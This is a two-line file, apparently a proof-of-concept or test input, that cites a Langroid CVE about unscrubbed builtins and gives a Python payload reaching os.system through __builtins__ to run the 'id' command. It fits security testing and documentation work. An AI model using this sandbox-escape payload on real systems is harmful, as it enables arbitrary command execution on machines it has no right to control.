# Source: Langroid CVE-2026-54769 (https://osv.dev/vulnerability/CVE-2026-54769), builtins not scrubbed: __import__('os').system() (builtins reached via __builtins__)
__builtins__["__import__"]("os").system("id")
